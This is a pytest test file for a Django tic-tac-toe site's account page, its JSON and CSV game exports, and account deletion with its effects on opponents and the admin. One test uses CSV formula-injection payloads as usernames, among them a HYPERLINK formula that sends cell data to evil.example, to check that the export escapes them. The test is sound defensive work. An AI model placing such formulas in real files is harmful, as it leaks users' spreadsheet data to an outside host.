"""Your account: every game you played as JSON and CSV, and deleting the account,
as the player and their opponents see it."""

import csv
import io
import json

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth import get_user_model
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from games.accounts import exports, selectors, services
from games.play import chat_services
from games.play.chat_models import ChatMessage
from games.play.models import Game
from games.play.players import Player
from games.stats.models import DailyStats, PlayerRecord, RatingChange
from tests.factories import DRAW, X_WINS, ai_game, human_game, rating_of

pytestmark = pytest.mark.django_db

ACCOUNT = "/account/"
JSON_URL = "/account/games.json"
CSV_URL = "/account/games.csv"
DELETE_URL = "/account/delete/"


@pytest.fixture
def games(user, bob, carol):
    """alice's games, one of each kind, and one she is not in."""
    return {
        "won": human_game(user, bob, X_WINS),  # alice X completes the top row
        "lost": human_game(bob, user, X_WINS),  # alice O
        "drawn": human_game(user, bob, DRAW),
        "ongoing": human_game(carol, user, [4, 0]),  # alice O, carol to move
        "ai": ai_game(user, level="easy", resign=True),  # alice X resigns to the AI after 4 and its answer
        "not_hers": human_game(bob, carol, X_WINS),
    }


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response.streaming
    return response, b"".join(response.streaming_content).decode()


def _cells(game):
    return list(Game.objects.get(pk=game.pk).cells)


# -- the page ---------------------------------------------------------------------


def test_the_account_page_offers_both_downloads_and_the_deletion(client_logged_in, user, games):
    html = client_logged_in.get(ACCOUNT).content.decode()
    assert "Your account" in html and "alice@example.com" in html
    assert f'href="{JSON_URL}"' in html and f'href="{CSV_URL}"' in html
    assert f'href="{DELETE_URL}"' in html
    assert "(5)" in html  # every one of her games, the unfinished too

    profile = client_logged_in.get("/players/alice/").content.decode()
    assert f'href="{ACCOUNT}"' in profile and f'href="{DELETE_URL}"' in profile
    other = client_logged_in.get("/players/bob/").content.decode()
    assert f'href="{ACCOUNT}"' not in other


@pytest.mark.parametrize("url", [ACCOUNT, JSON_URL, CSV_URL, DELETE_URL])
def test_a_visitor_is_sent_to_log_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


# -- the downloads ----------------------------------------------------------------


def test_the_json_holds_every_game_of_the_player_with_results_and_moves(client_logged_in, user, games):
    response, text = _download(client_logged_in, JSON_URL)

    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="tttsite-alice-games.json"'
    assert "no-store" in response["Cache-Control"]
    data = json.loads(text)
    assert data["account"]["username"] == "alice" and data["account"]["email"] == "alice@example.com"
    assert data["account"]["date_joined"].startswith(str(user.date_joined.date()))
    exported = {game["id"]: game for game in data["games"]}
    assert games["not_hers"].pk not in exported
    assert set(exported) == {game.pk for name, game in games.items() if name != "not_hers"}
    assert [game["id"] for game in data["games"]] == sorted(exported)  # oldest first

    won, lost, drawn = exported[games["won"].pk], exported[games["lost"].pk], exported[games["drawn"].pk]
    assert (won["side"], won["opponent"], won["opponent_kind"]) == ("X", "bob", "human")
    assert (won["outcome"], won["result"], won["termination"]) == ("win", "x_won", "line")
    assert won["moves"] == [{"ply": ply, "cell": cell, "mark": "XO"[ply % 2]} for ply, cell in enumerate(X_WINS)]
    assert won["url"] == f"http://testserver/games/{games['won'].pk}/"
    assert won["variant"] == "3x3" and won["created_at"] and won["finished_at"]
    assert (lost["side"], lost["outcome"], lost["result"]) == ("O", "loss", "x_won")
    assert (drawn["outcome"], drawn["result"], drawn["termination"]) == ("draw", "draw", "full_board")

    ongoing = exported[games["ongoing"].pk]
    assert (ongoing["status"], ongoing["outcome"], ongoing["result"], ongoing["finished_at"]) == (
        "in_progress",
        "unfinished",
        None,
        None,
    )
    assert [move["cell"] for move in ongoing["moves"]] == [4, 0]

    ai = exported[games["ai"].pk]
    assert (ai["opponent"], ai["opponent_kind"], ai["outcome"], ai["termination"]) == (
        "AI (easy)",
        "ai",
        "loss",
        "resigned",
    )
    assert [move["cell"] for move in ai["moves"]] == _cells(games["ai"])


def test_the_csv_holds_one_row_per_game_with_the_moves_in_one_column(client_logged_in, games):
    response, text = _download(client_logged_in, CSV_URL)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tttsite-alice-games.csv"'
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {game.pk for name, game in games.items() if name != "not_hers"}
    won = rows[games["won"].pk]
    assert (won["side"], won["opponent"], won["outcome"], won["result"]) == ("X", "bob", "win", "x_won")
    assert won["moves"] == "0 3 1 4 2" and won["move_count"] == "5"
    assert rows[games["lost"].pk]["outcome"] == "loss"
    assert rows[games["drawn"].pk]["moves"] == " ".join(map(str, DRAW))
    ongoing = rows[games["ongoing"].pk]
    assert (ongoing["outcome"], ongoing["result"], ongoing["finished_at"], ongoing["moves"]) == (
        "unfinished",
        "",
        "",
        "4 0",
    )
    assert rows[games["ai"].pk]["opponent"] == "AI (easy)"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd", "-2+3", "\tx", "\rx"]
)
def test_a_csv_cell_that_would_start_a_formula_reads_as_text(client_logged_in, user, django_user_model, name):
    """An opponent's name a spreadsheet would run as a formula starts with a
    single quote in the CSV (OWASP's advice); the JSON keeps it as it is."""
    opponent = django_user_model.objects.create_user(username=name, password="x")
    game = human_game(user, opponent, X_WINS)

    _, text = _download(client_logged_in, CSV_URL)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["id"] == str(game.pk)
    assert row["opponent"] == "'" + name
    _, text = _download(client_logged_in, JSON_URL)
    assert json.loads(text)["games"][0]["opponent"] == name


def test_harmless_csv_cells_are_left_alone():
    assert [exports.csv_cell(value) for value in ("bob", "4 0 8", 5, None, "a=b")] == ["bob", "4 0 8", 5, None, "a=b"]


def test_a_player_without_games_gets_valid_empty_files(client_logged_in):
    _, text = _download(client_logged_in, JSON_URL)
    assert json.loads(text)["games"] == []
    _, text = _download(client_logged_in, CSV_URL)
    assert text.splitlines() == [
        "id,url,variant,created_at,finished_at,side,opponent,opponent_kind,status,outcome,result,termination,"
        "move_count,moves"
    ]


def _export_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        _download(client, url)
    return len(queries)


@pytest.mark.parametrize("url", [JSON_URL, CSV_URL])
def test_the_number_of_queries_does_not_grow_with_the_games(client_logged_in, user, bob, url):
    human_game(user, bob, X_WINS)
    ai_game(user, level="easy")
    few = _export_queries(client_logged_in, url)
    for _ in range(5):
        human_game(bob, user, DRAW)
        ai_game(user, level="medium", first=0)
    assert _export_queries(client_logged_in, url) == few


def test_games_are_read_a_chunk_at_a_time_with_their_moves(user, bob, django_assert_max_num_queries):
    played = [human_game(user, bob, X_WINS if n % 2 else DRAW) for n in range(5)]
    # Five games read two at a time from one query, and one query for the
    # moves of each two.
    with django_assert_max_num_queries(4):
        read = [(game.pk, game.cells) for game in selectors.player_games_for_export(user, chunk_size=2)]
    assert read == [(game.pk, X_WINS if n % 2 else DRAW) for n, game in enumerate(played)]


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_download_is_sent_a_piece_at_a_time(async_client, user, games, monkeypatch, recwarn):
    monkeypatch.setattr(exports, "GAMES_PER_PIECE", 2)
    await async_client.aforce_login(user)
    response = await async_client.get(JSON_URL)
    assert response.status_code == 200 and response.is_async
    pieces = [piece async for piece in response.streaming_content]
    # The account, two pieces of two games, the last game, the chat's start (no message) and the end.
    assert len(pieces) == 6
    assert len(json.loads(b"".join(pieces))["games"]) == 5
    assert not [w for w in recwarn if "iterators" in str(w.message)]  # nothing was read whole first
    await sync_to_async(connections.close_all)()  # the view's thread's, or PostgreSQL keeps the test database


def test_a_deleted_opponent_is_named_so_in_the_download(client_logged_in, user, bob):
    game = human_game(user, bob, X_WINS)
    services.account_delete(user=bob)
    _, text = _download(client_logged_in, JSON_URL)
    (exported,) = json.loads(text)["games"]
    assert exported["id"] == game.pk
    assert (exported["opponent"], exported["opponent_kind"], exported["outcome"]) == (
        "Deleted player",
        "deleted",
        "win",
    )


def _say(game, user, text):
    chat_services.chat_send(game_id=game.pk, player=Player(user=user), text=text)


def test_the_json_holds_the_chat_messages_the_player_wrote_and_no_one_elses(client_logged_in, user, bob):
    game = human_game(user, bob, [4, 0])
    _say(game, user, "good luck")
    _say(game, bob, "you too")
    _say(game, user, "nice block")

    _, text = _download(client_logged_in, JSON_URL)
    exported = json.loads(text)["chat_messages"]

    assert [(m["game"], m["text"]) for m in exported] == [(game.pk, "good luck"), (game.pk, "nice block")]
    assert all(m["sent_at"] for m in exported)


# -- deleting the account -----------------------------------------------------------


def test_deleting_the_account_deletes_the_chat_messages_it_wrote_and_no_one_elses(user, bob):
    game = human_game(user, bob, [4, 0])
    _say(game, user, "gg")
    _say(game, bob, "thanks")

    services.account_delete(user=user)

    assert list(ChatMessage.objects.values_list("side", "text")) == [("O", "thanks")]


def test_the_delete_page_asks_for_the_password(client_logged_in, user, games):
    response = client_logged_in.get(DELETE_URL)
    html = response.content.decode()
    assert response.status_code == 200
    assert 'type="password" name="password"' in html and 'autocomplete="current-password"' in html
    assert "1 game in progress" in html  # what will happen to it is spelled out
    assert get_user_model().objects.filter(pk=user.pk).exists()


def test_a_wrong_password_deletes_nothing(client_logged_in, user, games):
    response = client_logged_in.post(DELETE_URL, {"password": "not-my-password"})

    assert response.status_code == 400
    assert "That is not your password. Your account has not been deleted." in response.content.decode()
    assert get_user_model().objects.filter(pk=user.pk).exists()
    assert Game.objects.get(pk=games["ongoing"].pk).status == "in_progress"
    assert client_logged_in.get(ACCOUNT).status_code == 200  # still signed in
    response = client_logged_in.post(DELETE_URL, {})
    assert response.status_code == 400 and "This field is required." in response.content.decode()


def test_the_right_password_deletes_the_account_signs_out_and_says_so(client_logged_in, user, password, games):
    response = client_logged_in.post(DELETE_URL, {"password": password}, follow=True)

    assert response.redirect_chain == [(reverse("games:home"), 302)]
    assert "Your account has been deleted." in response.content.decode()
    assert not get_user_model().objects.filter(username="alice").exists()
    assert "_auth_user_id" not in client_logged_in.session
    assert client_logged_in.get(ACCOUNT).status_code == 302
    login = Client().post(reverse("login"), {"username": "alice", "password": password})
    assert login.status_code == 200 and "_auth_user_id" not in login.client.session
    ongoing = Game.objects.get(pk=games["ongoing"].pk)
    assert (ongoing.status, ongoing.result, ongoing.termination) == ("finished", "x_won", "resigned")
    assert Game.objects.get(pk=games["ai"].pk).status == "finished"  # finished before: left as it was


def test_deleting_needs_the_csrf_token(user, password):
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    response = client.post(DELETE_URL, {"password": password})
    assert response.status_code == 403
    assert "That form has expired" in response.content.decode()  # templates/403_csrf.html
    assert get_user_model().objects.filter(pk=user.pk).exists()
    assert client.get(ACCOUNT).status_code == 200  # still signed in


def test_a_visitor_posting_is_sent_to_log_in_and_nothing_is_deleted(client, user, password):
    response = client.post(DELETE_URL, {"password": password})
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    assert get_user_model().objects.filter(pk=user.pk).exists()


def test_the_last_superuser_gets_a_form_error(client, django_user_model):
    root = django_user_model.objects.create_superuser("root", password="root-password-1")
    client.force_login(root)
    response = client.post(DELETE_URL, {"password": "root-password-1"})
    assert response.status_code == 400
    assert "Your account was not deleted: this is the site&#x27;s only superuser account" in response.content.decode()
    assert django_user_model.objects.filter(pk=root.pk).exists()

    django_user_model.objects.create_superuser("root2", password="x")
    response = client.post(DELETE_URL, {"password": "root-password-1"})
    assert response.status_code == 302
    assert not django_user_model.objects.filter(pk=root.pk).exists()


# -- what the opponent sees afterwards ------------------------------------------------


def _bobs_view(bob):
    client = Client()
    client.force_login(bob)
    return client


def test_the_opponent_keeps_the_games_marked_as_deleted_and_can_replay_them(client_logged_in, user, password, bob):
    finished = human_game(user, bob, X_WINS)
    ongoing = human_game(bob, user, [4, 0, 8])  # alice (O) to move: she resigns by leaving
    bob_rating = rating_of(bob)
    bob_changes = list(RatingChange.objects.filter(user=bob).values_list("game_id", "before", "after"))
    bob_records = list(PlayerRecord.objects.filter(user=bob).values_list("variant", "opponent", "wins", "losses"))
    daily = sorted(DailyStats.objects.values_list("result", "termination", "games"))
    client_logged_in.post(DELETE_URL, {"password": password})

    as_bob = _bobs_view(bob)
    history = as_bob.get("/games/").content.decode()
    assert history.count(">Deleted player</a>") == 2  # the opponent column of both games
    page = as_bob.get(f"/games/{finished.pk}/").content.decode()
    assert "Deleted player" in page and "alice" not in page
    assert "Offer a rematch" not in page and "Your opponent has deleted their account" in page
    replay = as_bob.get(f"/games/{finished.pk}/?ply=2")
    assert replay.status_code == 200 and "2 / 5" in replay.content.decode()
    profile = Client().get("/players/bob/").content.decode()
    assert "Deleted player" in profile and "Against other players" not in profile
    gone = Client().get("/players/alice/")
    assert gone.status_code == 404 and "This square is empty" in gone.content.decode()
    api = as_bob.get(f"/api/games/{ongoing.pk}/").json()
    assert api["o_player"] == {
        "username": None,
        "name": "Deleted player",
        "kind": "deleted",
        "level": None,
        "bot": False,
    }
    assert (api["status"], api["result"], api["termination"]) == ("finished", "x_won", "resigned")

    # Bob's counters: what he had, plus the win by resignation, rated as any other.
    assert list(PlayerRecord.objects.filter(user=bob).values_list("variant", "opponent", "wins", "losses")) == [
        (variant, opponent, wins + 1, losses) for variant, opponent, wins, losses in bob_records
    ]
    changes = list(RatingChange.objects.filter(user=bob).values_list("game_id", "before", "after"))
    assert changes[:-1] == bob_changes and changes[-1][:2] == (ongoing.pk, bob_rating)
    assert sorted(DailyStats.objects.values_list("result", "termination", "games")) == sorted(
        [*daily, ("x_won", "resigned", 1)]
    )


def test_the_admin_names_the_deleted_player(admin_client, user, bob):
    game = human_game(user, bob, X_WINS)
    services.account_delete(user=user)
    html = admin_client.get(reverse("admin:games_game_change", args=[game.pk])).content.decode()
    assert "Deleted player" in html
    assert f'href="{reverse("admin:auth_user_change", args=[bob.pk])}">bob</a>' in html


def test_deleting_a_user_in_the_admin_finishes_their_games_too(admin_client, user, bob):
    ongoing = human_game(bob, user, [4, 0, 8])
    response = admin_client.post(reverse("admin:auth_user_delete", args=[user.pk]), {"post": "yes"})
    assert response.status_code == 302
    assert not get_user_model().objects.filter(pk=user.pk).exists()
    game = Game.objects.get(pk=ongoing.pk)
    assert (game.status, game.result, game.termination) == ("finished", "x_won", "resigned")


def test_the_admin_does_not_offer_to_delete_the_last_superuser(admin_client, django_user_model):
    (admin,) = django_user_model.objects.filter(is_superuser=True)
    assert admin_client.get(reverse("admin:auth_user_delete", args=[admin.pk])).status_code == 403
    confirmed = admin_client.post(reverse("admin:auth_user_delete", args=[admin.pk]), {"post": "yes"})
    assert confirmed.status_code == 403  # confirming by hand does not get round it
    assert django_user_model.objects.filter(pk=admin.pk).exists()
    services.account_delete(user=django_user_model.objects.create_user("someone", password="x"))  # others may go
    assert not django_user_model.objects.filter(username="someone").exists()


def test_the_deleted_players_ai_games_read_as_deleted_against_the_ai(user):
    game = ai_game(user, level="hard")
    services.account_delete(user=user)
    game = Game.objects.get(pk=game.pk)
    assert (game.player_name("X"), game.player_name("O")) == ("Deleted player", "AI (hard)")
    assert game.player_kind("X") == "deleted"
